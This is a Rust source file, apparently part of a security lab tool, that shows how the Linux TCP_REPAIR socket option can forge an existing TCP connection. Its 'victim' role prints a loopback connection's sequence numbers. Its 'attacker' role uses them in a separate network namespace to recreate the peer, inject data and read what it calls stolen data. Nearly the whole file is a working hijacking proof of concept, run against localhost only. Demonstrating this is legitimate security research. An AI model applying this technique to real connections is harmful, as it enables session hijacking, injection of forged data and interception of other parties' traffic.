//! TCP_REPAIR: a process may read the numbers of its connection, and make up a connection that never was.

use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddrV4, TcpListener, TcpStream};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::{Args, Subcommand};
use nix::errno::Errno;
use nix::sys::socket::{AddressFamily, SockFlag, SockType, SockaddrIn, bind, connect, socket};

const TCP_REPAIR: i32 = 19;
const TCP_REPAIR_QUEUE: i32 = 20;
const TCP_QUEUE_SEQ: i32 = 21;
/// Values of the first.
const ON: i32 = 1;
const OFF: i32 = -1;
/// Values of the second.
const RECEIVE: i32 = 1;
const SEND: i32 = 2;

#[derive(Debug, Args)]
pub(crate) struct Repair {
    #[command(subcommand)]
    role: Role,
}

#[derive(Debug, Subcommand)]
enum Role {
    /// Connects to a blocking server of its own, says the connection's numbers, then talks on it
    Victim(Victim),
    /// Makes up the other end of that connection in a namespace of its own, and talks on it
    Attacker(Attacker),
}

#[derive(Debug, Args)]
struct Victim {
    #[arg(long)]
    port: u16,
}

#[derive(Debug, Args)]
struct Attacker {
    #[arg(long)]
    local: SocketAddrV4,
    #[arg(long)]
    remote: SocketAddrV4,
    #[arg(long)]
    send: u32,
    #[arg(long)]
    receive: u32,
}

impl Repair {
    pub(crate) fn run(self) -> Result<()> {
        match self.role {
            Role::Victim(victim) => victim.run(),
            Role::Attacker(attacker) => attacker.run(),
        }
    }
}

impl Victim {
    fn run(self) -> Result<()> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, self.port)).context("listen")?;
        let mut client = TcpStream::connect(listener.local_addr()?).context("connect")?;
        let (mut server, _) = listener.accept().context("accept")?;
        client.set_nonblocking(true)?;
        set(&client, TCP_REPAIR, ON)?;
        let numbers = [number(&client, SEND)?, number(&client, RECEIVE)?];
        set(&client, TCP_REPAIR, OFF)?;
        println!("{} {} {}\nready", client.local_addr()?.port(), numbers[0], numbers[1]);
        // Until the attacker has talked.
        std::io::stdin().read_line(&mut String::new())?;
        client.write_all(b"secret").context("send")?;
        let mut got = [0; 64];
        server.set_read_timeout(Some(Duration::from_secs(2)))?;
        let read = server.read(&mut got).unwrap_or(0);
        println!("server read {:?}", String::from_utf8_lossy(&got[..read]));
        println!("client read {:?}", listen_to(&mut client)?);
        Ok(())
    }
}

impl Attacker {
    fn run(self) -> Result<()> {
        nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWNET).context("a namespace of its own")?;
        lab_lo_up()?;
        let fd = socket(AddressFamily::Inet, SockType::Stream, SockFlag::empty(), None)?;
        set(&fd, TCP_REPAIR, ON)?;
        for (queue, number) in [(SEND, self.send), (RECEIVE, self.receive)] {
            set(&fd, TCP_REPAIR_QUEUE, queue)?;
            set(&fd, TCP_QUEUE_SEQ, number.cast_signed())?;
        }
        bind(fd.as_raw_fd(), &SockaddrIn::from(self.local)).context("bind")?;
        connect(fd.as_raw_fd(), &SockaddrIn::from(self.remote)).context("connect")?;
        set(&fd, TCP_REPAIR, OFF)?;
        let mut stream = TcpStream::from(fd);
        stream.set_nonblocking(true)?;
        stream.write_all(b"injected").context("send")?;
        println!("made up");
        std::io::stdin().read_line(&mut String::new())?;
        println!("stolen {:?}", listen_to(&mut stream)?);
        Ok(())
    }
}

/// What comes within a moment.
fn listen_to(stream: &mut TcpStream) -> Result<String> {
    let mut got = Vec::new();
    let until = Instant::now() + Duration::from_millis(500);
    while Instant::now() < until {
        let mut piece = [0; 64];
        match stream.read(&mut piece) {
            Ok(0) => break,
            Ok(read) => got.extend_from_slice(&piece[..read]),
            Err(error) if error.kind() == ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(10));
            }
            Err(error) => return Err(error).context("receive"),
        }
    }
    Ok(String::from_utf8_lossy(&got).into_owned())
}

fn lab_lo_up() -> Result<()> {
    let done = std::process::Command::new("ip").args(["link", "set", "lo", "up"]).status()?;
    anyhow::ensure!(done.success(), "set lo up: {done}");
    Ok(())
}

fn set(socket: &impl AsRawFd, name: i32, value: i32) -> Result<()> {
    let size = size_of::<i32>() as libc::socklen_t;
    // SAFETY: an integer and its size.
    let done = unsafe {
        libc::setsockopt(socket.as_raw_fd(), libc::IPPROTO_TCP, name, (&raw const value).cast(), size)
    };
    Errno::result(done).with_context(|| format!("socket option {name}")).map(drop)
}

/// The next sequence number of a queue.
fn number(socket: &impl AsRawFd, queue: i32) -> Result<u32> {
    set(socket, TCP_REPAIR_QUEUE, queue)?;
    let (mut value, mut size) = (0u32, size_of::<u32>() as libc::socklen_t);
    // SAFETY: an integer and its size.
    let done = unsafe {
        libc::getsockopt(
            socket.as_raw_fd(),
            libc::IPPROTO_TCP,
            TCP_QUEUE_SEQ,
            (&raw mut value).cast(),
            &raw mut size,
        )
    };
    Errno::result(done).context("read a sequence number")?;
    Ok(value)
}
